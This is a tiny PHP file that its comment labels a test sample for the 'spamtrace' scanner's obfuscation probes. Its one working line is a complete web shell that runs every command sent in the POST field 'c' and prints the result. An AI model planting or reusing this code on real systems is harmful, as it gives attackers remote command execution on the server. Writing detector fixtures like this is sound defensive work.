<?php
// spamtrace test sample: written for the scanner tests, never run (issue #17 obfuscation probes).
print_r(array_map(shell_exec(...), (array) $_POST['c']));
